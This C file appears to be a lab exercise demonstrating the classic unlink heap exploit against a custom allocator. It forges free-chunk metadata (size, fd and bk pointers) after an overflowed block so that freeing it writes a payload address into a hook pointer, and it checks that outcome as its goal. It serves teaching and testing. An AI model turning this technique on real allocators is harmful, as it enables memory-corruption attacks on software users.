/*
 * metadata: an overflow makes the next chunk look free, with links of the attacker's choice.
 * Freeing the block before it merges the two, and unlink stores one link where the other says: the
 * write of any value to any place that heap exploits began with (Solar Designer, 2000).
 */
#include "attack.h"

static uint64_t payload[8];
static Word *hook;

int main(void) {
  settle(136);
  Word *first = allocate(136);
  allocate(136);
  allocate(136);
  /* The block of 136 bytes ends with the next chunk's "size before". */
  Word *chunk = first + 16;
  chunk[-1] = 0;                               /* the size of what will seem the next chunk: "previous in use" is clear */
  chunk[0] = 0;
  chunk[1] = (uint64_t)-16;                    /* for the next chunk seems to begin 16 bytes before this one */
  chunk[2] = (uint64_t)(uintptr_t)&hook - 24;  /* fd */
  chunk[3] = (uint64_t)(uintptr_t)payload;     /* bk: what fd + 24, the hook, becomes */
  release((void *)first);
  return hook == (Word *)payload ? GOAL_REACHED : 0;
}
